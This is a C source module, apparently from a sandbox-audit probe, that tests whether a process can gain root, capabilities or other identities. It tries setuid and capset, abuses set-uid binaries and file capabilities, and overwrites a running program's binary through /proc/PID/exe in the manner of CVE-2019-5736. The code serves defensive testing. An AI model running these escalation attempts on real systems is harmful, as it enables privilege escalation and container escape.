/* Who this process is, and whether it can become somebody else. */
#define _GNU_SOURCE
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

enum { USER = 1000, DESCRIPTORS = 65536 };

static uint64_t capabilities(void) {
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct data[2] = {{0, 0, 0}, {0, 0, 0}};
  if (syscall(SYS_capget, &header, data) < 0) return missed("capget"), 0;
  return data[0].effective | data[0].permitted | data[0].inheritable | data[1].effective | data[1].permitted | data[1].inheritable;
}

/* privileges: those that user code must not have. */
static int show_privileges(int count, char **words) {
  (void)count, (void)words;
  if (capabilities()) gained("capabilities");
  for (int i = 0; i < 64; i++)
    if (prctl(PR_CAPBSET_READ, i) == 1) gained("capability %d in the bounding set", i);
  for (int i = 0; i < 64; i++)
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, i, 0, 0) == 1) gained("ambient capability %d", i);
  if (getuid() != USER || geteuid() != USER || getgid() != USER || getegid() != USER) gained("another id: %d %d", getuid(), geteuid());
  gid_t groups[64]; /* a run is marked by a group of its own; those of the system are below the first user's */
  for (int i = getgroups(64, groups) - 1; i >= 0; i--)
    if (groups[i] < USER) gained("group %d", groups[i]);
  if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1) gained("new privileges on exec");
  if (prctl(PR_GET_SECCOMP) != 2) gained("freedom from a seccomp filter");
  return 0;
}

static int become_root(int count, char **words) {
  (void)count, (void)words;
  gid_t group = 0;
  if (setgid(0) == 0 || setresgid(0, 0, 0) == 0) gained("group root");
  if (setgroups(1, &group) == 0) gained("supplementary group root");
  if (setuid(0) == 0 || setresuid(0, 0, 0) == 0 || setreuid(0, 0) == 0) gained("user root");
  else missed("becoming root");
  struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct all[2] = {{~0u, ~0u, ~0u}, {0x1ff, 0x1ff, 0x1ff}};
  syscall(SYS_capset, &header, all);
  if (capabilities()) gained("capabilities");
  struct sched_param first = {.sched_priority = 1};
  if (syscall(SYS_sched_setscheduler, 0, SCHED_FIFO, &first) == 0) gained("real-time priority");
  if (setpriority(PRIO_PROCESS, 0, -5) == 0) gained("a better priority");
  return 0;
}

static char process_state(pid_t pid) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  read_line(path, line, sizeof line);
  const char *end = strrchr(line, ')');
  return end && end[1] ? end[2] : 0;
}

static int effective_user(pid_t pid) {
  char path[64], line[128];
  int real = -1, effective = -1;
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *file = fopen(path, "re");
  while (file && fgets(line, sizeof line, file))
    if (sscanf(line, "Uid: %d %d", &real, &effective) == 2) break;
  if (file) fclose(file);
  return effective;
}

/* Its output goes to a pipe that is full, so that it waits in its first write while it is looked at. */
static void run_set_uid(const char *program) {
  int ends[2];
  char fill[4096] = {0};
  if (pipe2(ends, O_NONBLOCK) < 0) return missed("pipe");
  while (write(ends[1], fill, sizeof fill) > 0) {
  }
  fcntl(ends[1], F_SETFL, 0);
  pid_t pid = fork();
  if (pid == 0) {
    dup2(ends[1], 1);
    dup2(ends[1], 2);
    execl(program, program, "--help", NULL);
    _exit(127);
  }
  char path[64], name[64] = "";
  bool waits = false;
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  for (long end = milliseconds() + 5000; pid > 0 && !waits && milliseconds() < end && waitpid(pid, NULL, WNOHANG) == 0; usleep(1000)) {
    read_line(path, name, sizeof name);
    waits = process_state(pid) == 'S' && !strncmp(name, strrchr(program, '/') + 1, 15);
  }
  int user = effective_user(pid);
  if (!waits) say("%s did not wait to be looked at", program);
  else if (user != (int)getuid()) gained("uid %d by %s", user, program);
  else say("%s runs as uid %d", program, user);
  if (waits) kill(pid, SIGKILL), waitpid(pid, NULL, 0);
  close(ends[0]), close(ends[1]);
}

/* run-set-uid PROGRAM... */
static int run_set_uids(int count, char **words) {
  for (int i = 1; i < count; i++) run_set_uid(words[i]);
  return 0;
}

static bool copy_self(const char *name, mode_t mode) {
  char bytes[65536];
  ssize_t size = 0;
  unlink(name);
  int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = open(name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, mode);
  while (from >= 0 && to >= 0 && (size = read(from, bytes, sizeof bytes)) > 0)
    if (write(to, bytes, (size_t)size) != size) return missed("copying"), false;
  if (from < 0 || to < 0 || size < 0) return missed("copying"), false;
  fchmod(to, mode);
  close(from), close(to);
  return true;
}

static int has_capabilities(int count, char **words) {
  (void)count, (void)words;
  if (capabilities()) gained("capabilities %llx by a file", (unsigned long long)capabilities());
  if (geteuid() != getuid()) gained("uid %d by a file", geteuid());
  return 0;
}

/* grant-by-file: a copy of this program with CAP_SYS_ADMIN and others and the set-uid bit written on it, started as a user. */
static int grant_by_file(int count, char **words) {
  (void)count, (void)words;
  uint32_t grant[5] = {0x02000001, 1u << 21 | 1u << 13 | 1u << 1};
  if (!copy_self("granted", 04755)) return 1;
  if (setxattr("granted", "security.capability", grant, sizeof grant, 0) < 0) missed("setxattr security.capability");
  pid_t pid = fork();
  if (pid == 0) {
    if (getuid() == 0 && (setresgid(USER, USER, USER) < 0 || setresuid(USER, USER, USER) < 0)) _exit(1);
    execl("./granted", "granted", "has-capabilities", NULL);
    missed("starting it");
    _exit(127);
  }
  waitpid(pid, NULL, 0);
  return unlink("granted");
}

static bool overwrite_exe(pid_t pid, void *context) {
  char path[64], line[16];
  struct stat info;
  (void)context;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (stat(path, &info) < 0) return missed("%s", path), true;
  if (info.st_uid == getuid()) return true;
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0) gained("%s for writing", path), close(fd);
  else missed("opening %s for writing", path);
  read_line(path, line, sizeof line);
  return true;
}

/* overwrite-program PROGRAM TEXT: holds a running program's file by its /proc/PID/exe, lets it end, and writes to it
   (CVE-2019-5736); then tries the same on everybody. */
static int overwrite_program(int count, char **words) {
  char path[64], link[64], name[4096] = "";
  if (count < 3) return 64;
  pid_t pid = fork();
  if (pid == 0) {
    execl(words[1], words[1], "30", NULL);
    _exit(127);
  }
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  for (long end = milliseconds() + 5000; milliseconds() < end && strcmp(name, words[1]); usleep(1000)) {
    ssize_t size = readlink(path, name, sizeof name - 1);
    name[size > 0 ? size : 0] = 0;
  }
  int held = open(path, O_PATH | O_CLOEXEC);
  kill(pid, SIGKILL);
  waitpid(pid, NULL, 0);
  snprintf(link, sizeof link, "/proc/self/fd/%d", held);
  int fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd >= 0 && write(fd, words[2], strlen(words[2])) > 0) gained("%s overwritten", name);
  else missed("overwriting %s", name);
  each_process(overwrite_exe, NULL);
  return 0;
}

/* descriptors: any that was left open. */
static int show_descriptors(int count, char **words) {
  (void)count, (void)words;
  for (int fd = 0; fd < DESCRIPTORS; fd++) {
    char path[64], name[4096];
    struct stat info;
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(path, name, sizeof name - 1);
    name[size > 0 ? size : 0] = 0;
    fstat(fd, &info);
    say("descriptor %d is %s", fd, name);
    if (fd > 2) gained("descriptor %d: %s", fd, name);
    else if (!S_ISFIFO(info.st_mode) && !S_ISCHR(info.st_mode)) gained("descriptor %d is no pipe: %s", fd, name);
  }
  return 0;
}

const struct command identity_commands[] = {
    {"privileges", show_privileges},
    {"become-root", become_root},
    {"run-set-uid", run_set_uids},
    {"grant-by-file", grant_by_file},
    {"has-capabilities", has_capabilities},
    {"overwrite-program", overwrite_program},
    {"descriptors", show_descriptors},
    {NULL, NULL},
};
